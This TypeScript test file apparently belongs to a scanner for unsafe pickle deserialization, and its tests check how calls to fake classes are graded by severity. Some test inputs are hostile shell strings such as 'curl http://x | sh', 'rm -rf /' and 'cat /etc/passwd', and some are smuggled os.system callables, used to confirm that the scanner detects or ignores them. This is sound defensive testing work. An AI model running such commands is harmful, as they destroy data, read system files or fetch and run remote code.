import { factsIn } from '../../../sources/facts-folder';
import { resolve } from 'path';
import { provideFacts } from '../facts';
import { judgeCall, judgeHeld, judgeReference } from '../judge';
import type { CallKind, Value } from '../value';
import { canBeHooked } from '../what-to-ask';

const effects = (effect: string, from: string): object => ({ effects: [effect], line: 'shop/a.py:7', from });

const RECORDS = {
  Data: { kind: 'class', new: 'data', init: 'data' },
  Calls: { kind: 'class', new: 'data', init: 'safe', state: 'safe', stateCalls: ['_build'] },
  Opaque: { kind: 'class', new: 'unknown' },
  Slots: { kind: 'class', new: 'data', set: 'unknown' },
  Writes: { kind: 'class', new: 'data', init: 'safe', state: effects('file-write', 'state') },
  Opens: { kind: 'class', new: 'data', init: effects('file-read', 'arguments') },
  Parses: { kind: 'class', new: effects('exec', 'arguments'), init: 'data' },
  Fixed: { kind: 'class', new: effects('import', 'fixed'), init: 'safe' },
  Starts: { kind: 'class', new: effects('process', 'fixed'), init: 'safe' },
  Applies: { kind: 'class', new: 'data', init: 'data', state: effects('calls-argument', 'state') },
  Key: { kind: 'class', new: 'data', init: 'data', hash: effects('calls-argument', 'state') },
  Bag: { kind: 'class', new: 'data', init: 'data', items: 'safe' },
  Bunch: { kind: 'class', new: 'data', items: 'data', append: effects('calls-argument', 'state') },
  Wrapper: { kind: 'class', new: 'data', init: 'safe', items: 'data', state: 'safe', fresh: true },
  Symbol: { kind: 'class', new: 'unknown', bare: 'safe' },
  _rebuild: { kind: 'function', call: 'safe' },
  _fetch: { kind: 'function', call: effects('network', 'arguments') }
};

beforeAll(() => {
  const names = Object.keys(RECORDS).map((name, index) => [String(index), name]);
  const table = {
    package: 'shop',
    versions: ['2.0', '1.0'],
    records: Object.values(RECORDS),
    modules: { shop: Object.fromEntries(names) }
  };
  provideFacts(() => JSON.stringify(table), ['shop']);
});
afterAll(() => provideFacts(factsIn(resolve('src/scanner/rules/facts/data'))));

const text = (value: string): Value => ({ type: 'str', value, truncated: false, size: value.length });
const int: Value = { type: 'int', value: 3 };
const glob = (module: string, name: string): Value => ({ type: 'global', module, name });
const tuple = (...items: Value[]): Value => ({ type: 'tuple', items, more: 0 });
const state = (...entries: [Value, Value][]): Value => ({ type: 'dict', entries, more: 0 });

function use(name: string, opcode: CallKind, args: Value = tuple()): string {
  const judged = judgeCall('shop', name, opcode, () => args);
  return judged.kind === 'trusted' ? 'trusted' : `${judged.severity} ${judged.rule}`;
}

const LOW = 'LOW pickle-unknown-call';

test('a class without hooks is data, and the judgement says how that is known', () => {
  expect(judgeCall('shop', 'Data', 'new', tuple)).toEqual({
    kind: 'trusted',
    why: { id: 'facts', params: { package: 'shop', versions: '1.0 – 2.0' } }
  });
  expect(use('Data', 'reduce', tuple(text('cat /etc/passwd')))).toBe('trusted');
  expect(use('Data', 'build', state([text('command'), text('rm -rf /')]))).toBe('trusted');
  expect(use('Bag', 'setitem')).toBe('trusted');
  expect(use('Data', 'setitem')).toBe(LOW);
});

test('to append asks for a method by its name, to set an item does not', () => {
  expect(use('Bunch', 'setitem', tuple(text('extend'), glob('shop', 'run')))).toBe('trusted');
  expect(use('Bunch', 'append', tuple(glob('shop', 'run')))).not.toBe('trusted');
  expect(canBeHooked('shop', 'Bunch', 'setitem')).toBe(false);
  expect(canBeHooked('shop', 'Bunch', 'append')).toBe(true);
  expect(canBeHooked('shop', 'Bag', 'append')).toBe(false);
});

test('a call of a class is its __new__, too', () => {
  expect(use('Parses', 'reduce', tuple(text('(eval)(x)')))).toBe('HIGH class-runs-code');
  expect(use('Parses', 'reduce', tuple(int))).toBe(LOW);
});

test('a state must not bring what the class calls', () => {
  expect(use('Calls', 'build', state([text('x'), int]))).toBe('trusted');
  const brought = state([text('_build'), glob('shop', 'anything')]);
  expect(use('Calls', 'build', brought)).toBe('MEDIUM pickle-suspicious-arguments');
  expect(use('Calls', 'build', tuple({ type: 'none' }, brought))).toBe('MEDIUM pickle-suspicious-arguments');
  const computed: Value = { type: 'call', callee: glob('builtins', 'str'), args: [], opcode: 'reduce', offset: 0 };
  expect(use('Calls', 'build', state([computed, int]))).toBe('MEDIUM pickle-suspicious-arguments');
  expect(use('Calls', 'build', computed)).toBe('MEDIUM pickle-suspicious-arguments');
  expect(use('Calls', 'build', { type: 'dict', entries: [], more: 40 })).toBe(LOW);
});

test('what the source does not tell is judged as an unknown call', () => {
  expect(use('Opaque', 'new')).toBe(LOW);
  expect(use('Opaque', 'reduce', tuple(text('curl http://x | sh')))).toBe('HIGH pickle-suspicious-arguments');
  expect(use('Slots', 'build', state([text('x'), int]))).toBe('trusted');
  expect(use('Slots', 'build', tuple({ type: 'none' }, state([text('x'), int])))).toBe(LOW);
  const slots = tuple({ type: 'none' }, state([text('x'), text('y')]));
  expect(use('Slots', 'build', slots)).toBe('MEDIUM pickle-suspicious-arguments');
});

test('an effect that the file decides over is a finding that names it', () => {
  expect(judgeCall('shop', 'Writes', 'build', () => state([text('name'), text('a')]))).toMatchObject({
    severity: 'HIGH',
    rule: 'class-runs-code',
    module: 'shop',
    operator: 'Writes',
    params: { effect: 'file-write', line: 'shop/a.py:7', package: 'shop', versions: '1.0 – 2.0' }
  });
  expect(use('Writes', 'new')).toBe('trusted');
  expect(use('Opens', 'reduce', tuple(text('a')))).toBe('MEDIUM class-runs-code');
  expect(use('_fetch', 'reduce', tuple(text('a')))).toBe('MEDIUM class-runs-code');
  // Numbers name no file, and nothing at all does not, either.
  expect(use('Opens', 'reduce', tuple(int))).toBe(LOW);
  expect(use('Opens', 'reduce')).toBe('trusted');
  expect(use('Fixed', 'new')).toBe('trusted');
  // A program, a file or a connection is more than a model does, even where its name is in the source.
  expect(use('Starts', 'new')).toBe(LOW);
});

test('a callable that the object calls is as bad as it is', () => {
  const holding = (value: Value): Value => state([text('f'), value]);
  expect(use('Applies', 'build', holding(glob('os', 'system')))).toBe('HIGH class-runs-code');
  expect(use('Applies', 'build', holding(tuple(glob('os', 'system'))))).toBe('HIGH class-runs-code');
  expect(use('Applies', 'build', holding(glob('mylib', 'f')))).toBe(LOW);
  expect(use('Key', 'build', holding(glob('os', 'system')))).toBe('HIGH class-runs-code');
  expect(use('Key', 'build', holding(int))).toBe('trusted');
});

test('functions that rebuild objects are known, and no others may be called', () => {
  expect(use('_rebuild', 'reduce', tuple(text('abc')))).toBe('trusted');
  expect(use('anything', 'reduce', tuple(text('abc')))).toBe('HIGH pickle-unreviewed-function');
});

test('a name that is only held is none of them', () => {
  for (const name of Object.keys(RECORDS)) {
    expect(judgeHeld('shop', name).kind).toBe('trusted');
  }
  expect(judgeHeld('shop', 'anything').kind).toBe('trusted');
  // A name that something may call is another matter.
  expect(judgeReference('shop', '_fetch')).toMatchObject({ kind: 'unknown', severity: 'MEDIUM' });
  expect(judgeReference('shop', 'Data').kind).toBe('trusted');
  expect(judgeReference('shop', 'Opaque').kind).toBe('unknown');
});

test('what made an object is no callable in it', () => {
  const made = (name: string, ...args: Value[]): Value => ({
    type: 'call',
    callee: glob('builtins', name),
    args,
    opcode: 'reduce',
    offset: 0
  });
  const held = state([text('held'), made('getattr', glob('shop', 'Data'), text('method'))]);
  expect(use('Applies', 'build', held)).toBe(LOW);
  expect(use('Applies', 'build', state([text('held'), made('list', glob('os', 'system'))]))).toMatch(/^HIGH/);
});

test('a class that asks what it holds for the method that takes its state', () => {
  const judged = (isFresh: boolean): string =>
    judgeCall('shop', 'Wrapper', 'build', () => state([text('a'), int]), undefined, isFresh).kind;
  expect([judged(true), judged(false)]).toEqual(['trusted', 'unknown']);
});

test('a class that is made of nothing', () => {
  expect(use('Symbol', 'new')).toBe('trusted');
  expect(use('Symbol', 'new', tuple(text('x')))).toBe(LOW);
});

test('an attribute that replaces a method of data', () => {
  const held = state([text('items'), glob('shop', 'run')]);
  expect(use('Data', 'build', held)).toBe('HIGH pickle-object-rewired');
  expect(use('Data', 'build', state([text('items'), tuple(int)]))).toBe('trusted');
});
